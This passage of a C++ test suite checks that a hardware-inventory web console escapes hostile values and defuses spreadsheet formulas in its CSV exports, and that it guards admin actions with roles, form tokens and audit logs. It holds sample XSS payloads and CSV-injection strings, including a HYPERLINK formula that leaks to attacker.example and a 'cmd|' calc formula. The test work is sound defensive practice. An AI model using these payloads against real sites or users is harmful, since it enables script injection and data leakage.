    EXPECT_EQ(normalised(unknown.response.body), normalised(wrong.response.body));
    EXPECT_NE(wrong.response.body.find("Wrong name or password."), std::string::npos);
}

TEST_P(ConsoleTest, HostileReportIsEscapedOnEveryPageAndDefusedInTheCsv) {
    const std::string cookie = signIn();
    const auto machine = machineOf("hostile");
    const auto first = scanOf("hostile"), second = scanOf("hostile, second scan");
    ASSERT_EQ(machineOf("hostile, second scan"), machine);
    const std::vector<std::string> pages = {
        "/machines", "/machines?sort=maker&dir=desc", "/machines?q=javascript",
        "/machines/" + std::to_string(machine), "/scans/" + std::to_string(first),
        "/diff?a=" + std::to_string(first) + "&b=" + std::to_string(second), "/changes",
        "/changes?machine=" + std::to_string(machine)};
    for (const auto& path : pages) {
        const Response r = console_(request("GET", path, cookie));
        ASSERT_EQ(r.status, 200) << path;
        for (const std::string raw : {"<script>", "<img", "<svg", "<style", "onmouseover=\"", "onerror=\"",
                                      "'><", "</table><script", "href=\"javascript:", "href=\"=HYPER"}) {
            const auto at = r.body.find(raw);
            EXPECT_EQ(at, std::string::npos) << raw << " raw on " << path << ": "
                                             << r.body.substr(at < 300 ? 0 : at - 300, 400);
        }
    }
    const std::string machinePage = console_(request("GET", "/machines/" + std::to_string(machine), cookie)).body;
    for (const std::string escaped : {"&lt;script&gt;window.__gravelinPwned=1&lt;/script&gt;&quot;onmouseover=&quot;",
                                      "&lt;img src=x onerror=&quot;window.__gravelinPwned=4&quot;&gt;",
                                      "&apos;&gt;&lt;svg onload=window.__gravelinPwned=5&gt;",
                                      "&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;script&gt;",
                                      "&lt;style&gt;body{display:none}&lt;/style&gt;", "javascript:window.__gravelinPwned=3",
                                      "=HYPERLINK(&quot;http://attacker.example/?leak&quot;,&quot;Open&quot;)"}) {
        EXPECT_NE(machinePage.find(escaped), std::string::npos) << escaped << " shown escaped";
    }
    // The product name, next to the model in the heading and in the list.
    const std::string product = "<span class=\"product\"><bdi>&quot;&gt;&lt;img src=x onerror=window.__gravelinPwned=8&gt;</bdi></span>";
    EXPECT_NE(machinePage.find(product + "</h1>"), std::string::npos);
    EXPECT_NE(console_(request("GET", "/machines?q=javascript", cookie)).body.find(product), std::string::npos);
    // Searching for the hostile value finds it and shows it escaped in the search box.
    const Response search = console_(request("GET", "/machines?q=%3Cscript%3E", cookie));
    EXPECT_NE(search.body.find("value=\"&lt;script&gt;\""), std::string::npos);
    EXPECT_NE(search.body.find("/machines/" + std::to_string(machine) + "\""), std::string::npos);

    // The disk's serials are formulas: the change's CSV holds them, and no field of it starts
    // one (the fields it shows alone, the serial number's, are defused like the list's).
    const Response changesCsv = console_(request("GET", "/changes.csv?machine=" + std::to_string(machine), cookie));
    ASSERT_EQ(changesCsv.status, 200);
    EXPECT_NE(changesCsv.body.find("Serial number =cmd|' /C calc'!A0 → +SUM(1+1)*cmd|"), std::string::npos)
        << changesCsv.body;
    std::istringstream changeLines(changesCsv.body);
    for (std::string line; std::getline(changeLines, line);) {
        for (const std::regex& formula : {std::regex("(^|,)[=+@-]"), std::regex("(^|,)\"[=+@-]")}) {
            EXPECT_FALSE(std::regex_search(line, formula)) << line;
        }
    }
    const Response csv = console_(request("GET", "/machines.csv", cookie));
    EXPECT_NE(csv.body.find(",\"'=HYPERLINK(\"\"http://attacker.example/?leak\"\",\"\"Open\"\")\","), std::string::npos)
        << csv.body.substr(0, 2000);
    EXPECT_NE(csv.body.find("\"<script>window.__gravelinPwned=1</script>\"\"onmouseover=\"\"window.__gravelinPwned=2\"\" x=\"\"\""),
              std::string::npos);
    // No field of any record starts a formula.
    std::istringstream lines(csv.body);
    for (std::string line; std::getline(lines, line);) {
        for (const std::regex& formula : {std::regex("(^|,)[=+@-]"), std::regex("(^|,)\"[=+@-]")}) {
            EXPECT_FALSE(std::regex_search(line, formula)) << line;
        }
    }
}

// The survey's own views, over a fleet made up for them.
survey::Survey memoryFleet(const std::vector<std::pair<std::string, int>>& now,
                           const std::vector<std::pair<std::string, int>>& before = {}) {
    const auto machines = [](const std::vector<std::pair<std::string, int>>& types) {
        std::vector<survey::ScanFacets> out;
        std::int64_t id = 0;
        for (const auto& [type, n] : types) {
            for (int i = 0; i < n; ++i) {
                survey::Facets facets;
                facets.fill("unknown");
                facets[static_cast<std::size_t>(report::survey::Dimension::MemoryType)] = type;
                ++id;
                out.push_back({id, id, 0, facets});
            }
        }
        return out;
    };
    return survey::tally(machines(now), machines(before), {*server::utcDayStartMs("2026-12-01"),
                                                          *server::utcDayStartMs("2027-01-01")}, 10);
}

TEST(ConsoleSurveyViews, ValueSearchesQuoteWhatHoldsBlanksOrQuotes) {
    const std::pair<const char*, const char*> cases[] = {
        {"DDR4", "memory_type:DDR4"},
        {"Windows 11 Pro", "memory_type:\"Windows 11 Pro\""},
        {"say \"hi\"", "memory_type:\"say \\\"hi\\\"\""},
        {"a\\b c", "memory_type:\"a\\\\b c\""},
        {"16 GiB", "memory_type:\"16 GiB\""},
    };
    for (const auto& [value, search] : cases) EXPECT_EQ(console::valueSearch("memory_type", value), search) << value;
    EXPECT_EQ(console::urlEncode(console::valueSearch("os", "Windows 11 Pro")), "os%3A%22Windows%2011%20Pro%22");
}

TEST(ConsoleSurveyViews, SnapshotLeavesOutValuesOfFewerThanFiveAndEscapesTheRest) {
    const std::string hostile = "<img src=x onerror=alert(1)>";
    const survey::Survey fleet =
        memoryFleet({{hostile, 5}, {"DDR5", 6}, {"DDR4-four", 4}, {"unknown", 2}, {"\u202E\x01rtl", 5}});
    const std::string html = console::surveySnapshot(fleet, kStart);
    const auto from = html.find("<section id=\"memory_type\">");
    ASSERT_NE(from, std::string::npos);
    const std::string memory = html.substr(from, html.find("</section>", from) - from);
    // Five machines are enough to be shown; four are not, and go to "other" with unknown.
    EXPECT_NE(memory.find("<bdi>DDR5</bdi>"), std::string::npos);
    EXPECT_EQ(html.find("DDR4-four"), std::string::npos);
    EXPECT_NE(memory.find("<bdi>other</bdi></td><td class=\"num\">6</td>"), std::string::npos) << memory;
    EXPECT_EQ(memory.find("unknown"), std::string::npos);
    // The hostile value is text in the table and in the chart; the control character shown.
    EXPECT_EQ(html.find("<img"), std::string::npos);
    EXPECT_EQ(count(memory, "&lt;img src=x onerror=alert(1)&gt;"), 2u);  // the bar's title, the table
    EXPECT_EQ(count(memory, "\u2068&lt;img src=x onerror=a\u2026\u2069"), 1u);  // its label, cut
    EXPECT_EQ(html.find('\x01'), std::string::npos);
    EXPECT_NE(memory.find("\u202E\\x01rtl"), std::string::npos);
    // One file: no script, nothing fetched from anywhere.
    for (const char* outside : {"<script", "src=\"", "href=\"", "<link", "url("}) {
        EXPECT_EQ(html.find(outside), std::string::npos) << outside;
    }
    EXPECT_NE(html.find("<style>"), std::string::npos);
    EXPECT_NE(html.find("content=\"default-src 'none'; style-src 'unsafe-inline'\""), std::string::npos);
}

TEST(ConsoleSurveyViews, CsvKeepsChangesNumbersAndDefusesValues) {
    const survey::Survey fleet = memoryFleet({{"=1+1", 1}, {"DDR5", 3}}, {{"DDR5", 1}});
    const std::string csv = console::surveyCsv(fleet, report::survey::Dimension::MemoryType);
    EXPECT_EQ(csv,
              "dimension,value,machines,share,change\r\n"
              "memory_type,DDR5,3,0.7500,-0.2500\r\n"
              "memory_type,'=1+1,1,0.2500,0.2500\r\n");
}

TEST(ConsoleSurveyViews, BarsAreAsLongAsTheirShare) {
    const survey::Survey fleet = memoryFleet({{"DDR5", 3}, {"DDR4", 1}});
    const std::string svg = console::barChartSvg("memory_type", fleet.dimensions[6]);
    EXPECT_EQ(count(svg, "<g class=\"bar\">"), 2u);
    EXPECT_NE(svg.find("<title>DDR5: 75.0%</title>"), std::string::npos);
    EXPECT_NE(svg.find("width=\"105.0\""), std::string::npos);  // of 140 for all machines
    EXPECT_NE(svg.find("width=\"35.0\""), std::string::npos);
    EXPECT_EQ(svg.find("style="), std::string::npos);
}

TEST(ConsoleCsv, FieldsAreQuotedAndFormulasDefused) {
    const std::vector<std::pair<std::string, std::string>> cases = {
        {"plain", "plain"},
        {"", ""},
        {"Dell Inc.", "Dell Inc."},
        {"a,b", "\"a,b\""},
        {"say \"hi\"", "\"say \"\"hi\"\"\""},
        {"two\nlines", "\"two\nlines\""},
        {"=1+2", "'=1+2"},
        {"+1", "'+1"},
        {"-2", "'-2"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\tTAB", "'\tTAB"},
        {"\rCR", "\"'\rCR\""},
        {"=HYPERLINK(\"http://x\",\"y\")", "\"'=HYPERLINK(\"\"http://x\"\",\"\"y\"\")\""},
        {"a=b", "a=b"},
        {" =padded", " =padded"},
        // Control characters other than line breaks and TAB are written visibly.
        {"SN\u0081\u008D\u008F\u0090\u009D42", "SN\\x81\\x8d\\x8f\\x90\\x9d42"},
        {"bell\a and del\x7F", "bell\\x07 and del\\x7f"},
        {"=\x1B[31m", "'=\\x1b[31m"},
        {"caf\u00E9 \u00A0", "caf\u00E9 \u00A0"},
    };
    for (const auto& [value, expected] : cases) EXPECT_EQ(console::csvField(value), expected) << value;
    std::string record;
    console::appendCsvRecord(record, {"1", "x,y", "=z"});
    EXPECT_EQ(record, "1,\"x,y\",'=z\r\n");
}

TEST_P(ConsoleTest, MachineListCsvHasOneHeaderRowAndEveryMachine) {
    const std::string cookie = signIn();
    const Response csv = console_(request("GET", "/machines.csv", cookie));
    ASSERT_EQ(csv.status, 200);
    EXPECT_EQ(headerOf(csv, "Content-Type"), "text/csv; charset=utf-8; header=present");
    EXPECT_EQ(headerOf(csv, "Content-Disposition"), "attachment; filename=\"machines.csv\"");
    ASSERT_TRUE(csv.body.starts_with("\xEF\xBB\xBF" "id,maker,model,processor,cores,threads,memory_bytes,"));
    const auto machines = store_->machines({"", storage::MachineSort::LastSeen, true, 1000, 0}).total;
    EXPECT_EQ(count(csv.body, "\r\n"), machines + 1);
    EXPECT_NE(csv.body.find(",Dell Inc.,Precision WorkStation 390,"), std::string::npos);
    const Response found = console_(request("GET", "/machines.csv?q=7TQCK2J", cookie));
    EXPECT_EQ(count(found.body, "\r\n"), 2u);
}

TEST_P(ConsoleTest, MachinePageShowsTheHardwareAsATechnicianReadsIt) {
    const std::string cookie = signIn();
    const auto machine = machineOf("workstation, first scan");
    const Response page = console_(request("GET", "/scans/" + std::to_string(scanOf("workstation, first scan")), cookie));
    ASSERT_EQ(page.status, 200);
    const std::string& html = page.body;
    // The table holds two populated slots and two empty ones.
    EXPECT_EQ(count(html, "<tr class=\"empty\">"), 2u);
    EXPECT_NE(html.find("2 of 4 slots in use"), std::string::npos);
    // Slots in the order people count them, whatever order the report lists them in.
    EXPECT_LT(html.find("<td><bdi>DIMM_1</bdi></td>"), html.find("DIMM_2</bdi></td>"));
    EXPECT_LT(html.find("DIMM_2</bdi></td>"), html.find("DIMM_3</bdi></td>"));
    EXPECT_LT(html.find("DIMM_3</bdi></td>"), html.find("<td><bdi>DIMM_4</bdi></td>"));
    EXPECT_NE(html.find("05176522"), std::string::npos) << "a module's serial number";
    EXPECT_NE(html.find(">250 GB<"), std::string::npos) << "disk sizes in human units";
    EXPECT_NE(html.find(">500 GB<"), std::string::npos);
    EXPECT_TRUE(std::regex_search(html, std::regex("class=\"meter (ok|high|full)\"><span class=\"fill p[0-9]+\">")));
    EXPECT_NE(html.find("WDC WD5000AAKS-00YGA0"), std::string::npos);
    EXPECT_NE(html.find("Intel(R) 82801 SATA AHCI Controller"), std::string::npos);
    EXPECT_NE(html.find("Microsoft Windows 10 Pro"), std::string::npos);
    EXPECT_NE(html.find("Earlier scan"), std::string::npos);
    // History newest first, both scans, the compare form preselecting the newest two.
    const auto newer = html.find("value=\"" + std::to_string(scanOf("workstation, module moved and disk replaced")) + "\"");
    const auto older = html.find("value=\"" + std::to_string(scanOf("workstation, first scan")) + "\"");
    ASSERT_NE(newer, std::string::npos);
    ASSERT_NE(older, std::string::npos);
    EXPECT_LT(newer, older);
    EXPECT_NE(html.find("action=\"/diff\""), std::string::npos);

    const Response latest = console_(request("GET", "/machines/" + std::to_string(machine), cookie));
    EXPECT_NE(latest.body.find("Latest scan"), std::string::npos);
    EXPECT_NE(latest.body.find("Samsung SSD 860 EVO 500GB"), std::string::npos);
    // The hardware shown is the latest scan's (the old disk is named only where the page
    // says what changed).
    const std::string shown = latest.body.substr(0, latest.body.find("id=\"changes\""));
    EXPECT_EQ(shown.find("WDC WD5000AAKS-00YGA0"), std::string::npos);
}

// A report of other hardware that claims the workstation's UUID and serial (anyone can post
// one): stored in its history, shown apart with the address it came from, and changing
// nothing the machine shows until someone signed in accepts it with the form token.
TEST_P(ConsoleTest, AForgedClaimIsShownApartUntilAccepted) {
    const std::string cookie = signIn();
    const auto machine = machineOf("workstation, first scan");
    const std::string machinePath = "/machines/" + std::to_string(machine);
    MachineWmi forger;
    forger.vendor = "Forger Inc.";
    forger.name = "Claimed Box";
    forger.serial = workstation().serial;
    forger.uuid = workstation().uuid;
    forger.disks = {{"Forged Disk", "FORGED-DISK-1", "1.0", 256060514304ULL}};
    const auto forged =
        store_->addScan(newScan(sealedScan("infrasim-dell_r640", forger), kStart, "203.0.113.66"));
    ASSERT_EQ(forged.machineId, machine) << "the claim reaches the workstation";
    EXPECT_TRUE(forged.conflicting);
    const std::string scanPath = "/scans/" + std::to_string(forged.scanId);

    const Response page = console_(request("GET", machinePath, cookie));
    ASSERT_EQ(page.status, 200);
    EXPECT_NE(page.body.find("<h1><bdi>Dell Inc.</bdi> <bdi>Precision WorkStation 390</bdi></h1>"), std::string::npos);
    EXPECT_EQ(page.body.find("Forger Inc."), std::string::npos);
    EXPECT_NE(page.body.find("conflicting hardware</span> <span class=\"muted\">from <bdi>203.0.113.66</bdi>"),
              std::string::npos);
    EXPECT_EQ(count(page.body, "conflicting hardware"), 1u) << "only the claim is marked";

    const Response claim = console_(request("GET", scanPath, cookie));
    ASSERT_EQ(claim.status, 200);
    EXPECT_NE(claim.body.find("Conflicting hardware."), std::string::npos);
    EXPECT_NE(claim.body.find("posted from <bdi>203.0.113.66</bdi>"), std::string::npos);
    EXPECT_NE(claim.body.find("action=\"" + scanPath + "/accept\""), std::string::npos);

    // Accepting takes a POST with this session's form token.
    const std::string token = formTokenOf(cookie);
    const std::string other = formTokenOf(signIn());
    struct Refused {
        const char* what;
        std::string method, cookies, body;
        int status;
    };
    const Refused refused[] = {
        {"a GET", "GET", cookie, "", 405},
        {"no token", "POST", cookie, "", 403},
        {"another session's token", "POST", cookie, "token=" + other, 403},
        {"no session", "POST", "", "token=" + token, 303},
    };
    for (const auto& r : refused) {
        const Response answer = console_(request(r.method, scanPath + "/accept", r.cookies, r.body));
        EXPECT_EQ(answer.status, r.status) << r.what;
        if (r.status == 303) {
            EXPECT_EQ(headerOf(answer, "Location"), "/signin") << r.what;
        }
        EXPECT_EQ(store_->machine(machine)->latest.maker, "Dell Inc.") << r.what;
    }
    EXPECT_EQ(console_(request("POST", "/scans/999999/accept", cookie, "token=" + token)).status, 404);

    const Response accepted = console_(request("POST", scanPath + "/accept", cookie, "token=" + token));
    EXPECT_EQ(accepted.status, 303);
    EXPECT_EQ(headerOf(accepted, "Location"), scanPath);
    const Response after = console_(request("GET", machinePath, cookie));
    EXPECT_NE(after.body.find("<h1><bdi>Forger Inc.</bdi> <bdi>Claimed Box</bdi></h1>"), std::string::npos);
    EXPECT_EQ(after.body.find("conflicting hardware"), std::string::npos);
    EXPECT_NE(after.body.find("<span class=\"tag\">accepted</span>"), std::string::npos);
    EXPECT_EQ(store_->machine(machine)->latestScanId, forged.scanId);
}

// An admin deletes a machine from its page: a confirmation that names it (maker, model,
// serial numbers, UUID, number), then a POST with the form token. Viewers, forged posts and
// other sessions' tokens delete nothing. The audit entry says who and how many scans.
TEST_P(ConsoleTest, AnAdminDeletesAMachineAfterAConfirmationThatNamesIt) {
    const std::string cookie = signIn();
    // A machine of this test's own (the PostgreSQL database is shared by the tests), scanned
    // twice.
    MachineWmi doomed = workstation();
    doomed.serial = "DOOMED" + prefix_;
    doomed.uuid = "D00D0000-0000-4000-8000-" + std::to_string(100000000000LL + counter_);
    const auto first = store_->addScan(newScan(sealedScan("dell-libsmbios-Precision_390", doomed), kStart - 7200000));
    doomed.volumeFree /= 2;
    const auto second = store_->addScan(newScan(sealedScan("dell-libsmbios-Precision_390", doomed), kStart - 3600000));
    const auto machine = first.machineId;
    ASSERT_EQ(second.machineId, machine);
    const std::string machinePath = "/machines/" + std::to_string(machine);
    const std::string deletePath = machinePath + "/delete";
    EXPECT_NE(console_(request("GET", machinePath, cookie)).body.find("href=\"" + deletePath + "\""),
              std::string::npos);
    const Response confirm = console_(request("GET", deletePath, cookie));
    ASSERT_EQ(confirm.status, 200);
    for (const std::string& shown : {std::string("Dell Inc."), std::string("Precision WorkStation 390"),
                                     doomed.serial, doomed.uuid,
                                     "<dd>" + std::to_string(machine) + "</dd>",
                                     "action=\"" + deletePath + "\""})
        EXPECT_NE(confirm.body.find(shown), std::string::npos) << shown;
    ASSERT_TRUE(store_->machine(machine)) << "showing the page deletes nothing";

    const std::string viewer = "viewer-" + prefix_;
    console::addUser(*store_, viewer, kPassword, storage::Role::Viewer, console::PasswordCost::Interactive);
    const std::string viewerCookie = trySignIn(console_, viewer, "correct+horse+battery+staple").sessionCookie;
    ASSERT_FALSE(viewerCookie.empty());
    EXPECT_EQ(console_(request("GET", machinePath, viewerCookie)).body.find(deletePath), std::string::npos);
    const std::string token = formTokenOf(cookie);
    const std::string other = formTokenOf(signIn());
    struct Refused {
        const char* what;
        std::string cookies, body;
        int status;
    };
    const Refused refused[] = {
        {"no token", cookie, "", 403},
        {"another session's token", cookie, "token=" + other, 403},
        {"no session", "", "token=" + token, 303},
        {"a viewer, with its own token", viewerCookie, "token=" + formTokenOf(viewerCookie), 403},
    };
    for (const auto& r : refused) {
        EXPECT_EQ(console_(request("POST", deletePath, r.cookies, r.body)).status, r.status) << r.what;
        EXPECT_TRUE(store_->machine(machine)) << r.what;
    }
    EXPECT_EQ(console_(request("GET", deletePath, viewerCookie)).status, 403);

    const Response deleted = console_(request("POST", deletePath, cookie, "token=" + token));
    EXPECT_EQ(deleted.status, 303);
    EXPECT_EQ(headerOf(deleted, "Location"), "/machines?deleted=" + std::to_string(machine));
    EXPECT_FALSE(store_->machine(machine));
    EXPECT_FALSE(store_->scan(second.scanId));
    EXPECT_EQ(console_(request("GET", machinePath, cookie)).status, 404);
    EXPECT_EQ(console_(request("POST", deletePath, cookie, "token=" + token)).status, 404);
    storage::AuditQuery q;
    q.action = std::string(storage::audit::kMachineDeleted);
    const auto entries = store_->auditEntries(q);
    ASSERT_FALSE(entries.empty());
    EXPECT_EQ(entries[0].actor, user_);
    EXPECT_EQ(entries[0].target, "machine " + std::to_string(machine));
    EXPECT_EQ(entries[0].detail, "machines=1 scans=2");
    EXPECT_EQ(entries[0].address, "198.51.100.7");
    EXPECT_EQ(entries[0].atMs, now_.load());

    // The hostile machine's confirmation shows its values, escaped.
    const Response hostile = console_(
        request("GET", "/machines/" + std::to_string(machineOf("hostile")) + "/delete", cookie));
    ASSERT_EQ(hostile.status, 200);
    EXPECT_EQ(hostile.body.find("<script>"), std::string::npos);
    EXPECT_NE(hostile.body.find("&lt;script&gt;window.__gravelinPwned=1"), std::string::npos);
}

// The list of machines not seen since a date keeps its search, sorting and paging.
TEST_P(ConsoleTest, TheListShowsMachinesNotSeenSinceADate) {
    MachineWmi m = workstation();
    // Deleted again at the end: the PostgreSQL database is shared by the tests.
    struct Quiet {
        storage::Store& store;
        std::vector<std::int64_t> ids;
        ~Quiet() {
            for (const auto id : ids) store.deleteMachine(id, {});
        }
    } quiet{*store_, {}};
    for (int i = 0; i < 55; ++i) {
        m.serial = "QUIET" + std::to_string(1000 + i);
        m.uuid = "22222222-3333-4444-5555-" + std::to_string(100000000000LL + i);
        m.name = "Quiet " + std::to_string(1000 + i);
        quiet.ids.push_back(  // 2020-01-01
            store_->addScan(newScan(sealedScan("dell-libsmbios-Precision_390", m), 1'577'836'800'000LL + i)).machineId);
    }
    const std::string cookie = signIn();
    const Response first = console_(request("GET", "/machines?unseen=2021-01-01&sort=model&dir=asc", cookie));
    ASSERT_EQ(first.status, 200);
    EXPECT_EQ(count(first.body, "<td class=\"text\"><a href=\"/machines/"), 50u);
    EXPECT_NE(first.body.find("1–50 of 55"), std::string::npos);
    EXPECT_NE(first.body.find("not seen since 2021-01-01"), std::string::npos);
    EXPECT_NE(first.body.find("value=\"2021-01-01\""), std::string::npos);
    const std::string next = pagerLink(first.body, "Next ›");
    EXPECT_TRUE(next.starts_with("/machines?unseen=2021-01-01&sort=model&dir=asc&after=")) << next;
    EXPECT_NE(first.body.find("/machines.csv?unseen=2021-01-01&amp;"), std::string::npos);
    EXPECT_EQ(first.body.find("PowerEdge"), std::string::npos) << "seen since";
    const Response second = console_(request("GET", next, cookie));
    EXPECT_EQ(count(second.body, "<td class=\"text\"><a href=\"/machines/"), 5u);
    EXPECT_NE(second.body.find("Quiet 1054"), std::string::npos);
    const Response searched = console_(request("GET", "/machines?unseen=2021-01-01&q=QUIET1042", cookie));
    EXPECT_EQ(count(searched.body, "<td class=\"text\"><a href=\"/machines/"), 1u);
    const Response csv = console_(request("GET", "/machines.csv?unseen=2021-01-01", cookie));
    EXPECT_EQ(count(csv.body, "\n"), 56u) << "a header and the 55";
    // A date that is no date filters nothing.
    for (const char* bad : {"2021-02-30", "yesterday", "2021-1-1", "%3Cscript%3E"}) {
        const Response r = console_(request("GET", std::string("/machines?unseen=") + bad, cookie));
        EXPECT_EQ(r.status, 200) << bad;
        EXPECT_EQ(r.body.find("not seen since"), std::string::npos) << bad;
    }
}

// Webhooks are an admin's: the form adds a hook and shows its secret on that answer only,
// the page lists hooks with their deliveries escaped, a failed delivery is retried, a hook
// deleted; each change is in the audit log.
TEST_P(ConsoleTest, AdminsManageWebhooksAndRetryFailedDeliveries) {
    const std::string admin = signIn();
    const std::string token = formTokenOf(admin);
    const std::string viewerName = "wendy-" + prefix_;
    console::addUser(*store_, viewerName, kPassword, storage::Role::Viewer, console::PasswordCost::Interactive);
    const std::string viewer = trySignIn(console_, viewerName, "correct+horse+battery+staple").sessionCookie;
    ASSERT_FALSE(viewer.empty());
    // A hostile address: quotes and angle brackets are allowed in a URL, never unescaped here.
    const std::string url = "https://hooks.example/" + prefix_ + "/\"><script>alert(1)</script>";
    const std::string posted = "url=" + console::urlEncode(url) + "&events=new-scan&events=new-machine";
    EXPECT_EQ(console_(request("POST", "/webhooks", viewer, "token=" + formTokenOf(viewer) + "&" + posted)).status, 403);
    const auto mine = [&]() -> std::optional<storage::Webhook> {
        for (const auto& h : store_->webhooks())
            if (h.url == url) return h;
        return std::nullopt;
    };
    EXPECT_FALSE(mine());

    const struct {
        std::string body;
        int status;
    } refused[] = {
        {"url=" + console::urlEncode("http://hooks.example/" + prefix_) + "&events=new-scan", 400},
        {"url=" + console::urlEncode("javascript:alert(1)") + "&events=new-scan", 400},
        {"url=" + console::urlEncode("https://hooks.example/" + prefix_), 400},
        {"url=" + console::urlEncode("https://hooks.example/" + prefix_) + "&events=everything", 400},
    };
    for (const auto& r : refused)
        EXPECT_EQ(console_(request("POST", "/webhooks", admin, "token=" + token + "&" + r.body)).status, r.status) << r.body;

    const Response added = console_(request("POST", "/webhooks", admin, "token=" + token + "&" + posted));
    ASSERT_EQ(added.status, 200);
    const auto hook = mine();
    ASSERT_TRUE(hook);
    EXPECT_EQ(hook->events, (std::vector<std::string>{"new-scan", "new-machine"}));
    EXPECT_EQ(hook->createdBy, user_);
    ASSERT_EQ(hook->secret.size(), 64u);
    EXPECT_NE(added.body.find("<code>" + hook->secret + "</code>"), std::string::npos);
    EXPECT_EQ(added.body.find("<script>alert(1)"), std::string::npos);
    EXPECT_NE(added.body.find("&lt;script&gt;alert(1)&lt;/script&gt;"), std::string::npos);
    const std::string page = console_(request("GET", "/webhooks", admin)).body;
    EXPECT_EQ(page.find(hook->secret), std::string::npos) << "the secret is shown once";
    EXPECT_NE(page.find("id=\"webhook-" + std::to_string(hook->id) + "\""), std::string::npos);

    // A delivery past its day fails at its first attempt; the page offers to retry it.
    const std::string hostileError = "<img src=x onerror=alert(2)>";
    store_->enqueueEvent({storage::newEventId(), "new-scan", 0, "{}"});
    const auto claimed = store_->claimDeliveries(now_.load(), 60'000, 1000);
    std::optional<storage::WebhookDelivery> delivery;
    for (const auto& d : claimed) {
        store_->finishDelivery({d.id, d.leaseUntilMs, now_.load(), 502, hostileError});
        if (d.hookId == hook->id) delivery = d;
    }
    ASSERT_TRUE(delivery);
    EXPECT_EQ(store_->webhookDeliveries(hook->id, 10).at(0).state, storage::DeliveryState::Failed);
    const std::string failed = console_(request("GET", "/webhooks", admin)).body;
    EXPECT_EQ(failed.find(hostileError), std::string::npos);
    EXPECT_NE(failed.find("&lt;img src=x onerror=alert(2)&gt;"), std::string::npos);
    EXPECT_NE(failed.find("action=\"/webhooks/retry\""), std::string::npos);
    const std::string retry = "token=" + token + "&id=" + std::to_string(delivery->id);
    EXPECT_EQ(console_(request("POST", "/webhooks/retry", viewer, "token=" + formTokenOf(viewer) + "&id=" +
                                                                      std::to_string(delivery->id)))
                  .status,
              403);
    EXPECT_EQ(console_(request("POST", "/webhooks/retry", admin, retry)).status, 303);
    EXPECT_EQ(store_->webhookDeliveries(hook->id, 10).at(0).state, storage::DeliveryState::Pending);
    EXPECT_EQ(console_(request("POST", "/webhooks/retry", admin, retry)).status, 409) << "not failed now";

    const std::string remove = "token=" + token + "&id=" + std::to_string(hook->id);
    EXPECT_EQ(console_(request("POST", "/webhooks/delete", admin, remove)).status, 303);
    EXPECT_FALSE(mine());
    EXPECT_EQ(console_(request("POST", "/webhooks/delete", admin, remove)).status, 404);

    storage::AuditQuery q;
    q.actor = user_;
    std::multiset<std::string> actions;
    for (const auto& e : store_->auditEntries(q))
        if (e.action.starts_with("webhook")) actions.insert(e.action);
    EXPECT_EQ(actions, (std::multiset<std::string>{"webhook-added", "webhook-delivery-retried",
                                                   "webhook-deleted"}));
}

// What identifies a machine is an admin's to change: a viewer is refused every change and
// page; an admin merges after a confirmation naming both machines, splits a scan off, sees
// the conflicting scans, keeps placeholders and writes notes, each recorded in the audit log.
TEST_P(ConsoleTest, AdminsMergeSplitAndAnnotateMachinesAndViewersAreRefused) {
    const std::string admin = signIn();
    const std::string token = formTokenOf(admin);
    const std::string viewerName = "vera-" + prefix_;
    console::addUser(*store_, viewerName, kPassword, storage::Role::Viewer, console::PasswordCost::Interactive);
    const std::string viewer = trySignIn(console_, viewerName, "correct+horse+battery+staple").sessionCookie;
    ASSERT_FALSE(viewer.empty());
    const std::string viewerToken = formTokenOf(viewer);
    // Machines of this test's own (the PostgreSQL instance shares one database).
    MachineWmi workstationHere = workstation();
    workstationHere.serial = "KEEP-" + prefix_;
    const auto first = store_->addScan(newScan(sealedScan("dell-libsmbios-Precision_390", workstationHere), kStart));
    workstationHere.volumeFree += 4096;
    const auto second =
        store_->addScan(newScan(sealedScan("dell-libsmbios-Precision_390", workstationHere), kStart + 1000));
    ASSERT_EQ(first.machineId, second.machineId);
    MachineWmi hostileHere;
    hostileHere.vendor = "<script>window.__pwned=1</script>";
    hostileHere.name = "\"><img src=x>";
    hostileHere.serial = "AWAY-" + prefix_;
    const auto other = store_->addScan(newScan(sealedScan("infrasim-dell_r640", hostileHere), kStart));
    const auto kept = first.machineId;
    const auto away = other.machineId;
    ASSERT_NE(kept, away);
    const std::string keptPath = "/machines/" + std::to_string(kept);
    const std::string from = std::to_string(away);
    const std::string split = "/scans/" + std::to_string(first.scanId) + "/split";

    struct Change {
        const char* what;
        std::string method, path, body;
    };
    const Change changes[] = {
        {"merge confirmation", "GET", keptPath + "/merge?from=" + from, ""},
        {"merge", "POST", keptPath + "/merge", "from=" + from},
        {"split", "POST", split, ""},
        {"conflicts", "GET", "/conflicts", ""},
        {"placeholders", "GET", "/placeholders", ""},
        {"placeholder add", "POST", "/placeholders", "value=PH-" + prefix_},
        {"note", "POST", keptPath + "/notes", "text=hello"},
    };
    for (const auto& c : changes) {
        const std::string body = "token=" + viewerToken + (c.body.empty() ? "" : "&" + c.body);
        EXPECT_EQ(console_(request(c.method, c.path, viewer, c.method == "POST" ? body : "")).status, 403) << c.what;
    }
    EXPECT_TRUE(store_->machine(away)) << "nothing was merged";
    EXPECT_TRUE(store_->notes(kept).empty());
    const Response viewerPage = console_(request("GET", keptPath, viewer));
    EXPECT_EQ(viewerPage.body.find("/merge"), std::string::npos) << "no admin forms for a viewer";
    EXPECT_EQ(viewerPage.body.find("/notes\""), std::string::npos);

    // The admin's machine page offers the forms; the confirmation names both machines.
    const Response page = console_(request("GET", keptPath, admin));
    EXPECT_NE(page.body.find("action=\"" + keptPath + "/merge\""), std::string::npos);
    EXPECT_NE(page.body.find("action=\"/scans/" + std::to_string(store_->machine(kept)->latestScanId) + "/split\""),
              std::string::npos);
    const Response confirm = console_(request("GET", keptPath + "/merge?from=" + from, admin));
    ASSERT_EQ(confirm.status, 200);
    EXPECT_NE(confirm.body.find("Merge machine " + from + " into machine " + std::to_string(kept)), std::string::npos);
    EXPECT_NE(confirm.body.find("Precision WorkStation 390"), std::string::npos);
    EXPECT_EQ(confirm.body.find("<script>"), std::string::npos) << "the hostile machine's name is escaped";
    EXPECT_NE(confirm.body.find("&lt;script&gt;window.__pwned=1&lt;/script&gt;"), std::string::npos);
    EXPECT_EQ(console_(request("GET", keptPath + "/merge?from=" + std::to_string(kept), admin)).status, 400);
    EXPECT_EQ(console_(request("GET", keptPath + "/merge?from=999999", admin)).status, 404);
    EXPECT_EQ(console_(request("POST", keptPath + "/merge", admin, "from=" + from)).status, 403) << "no token";

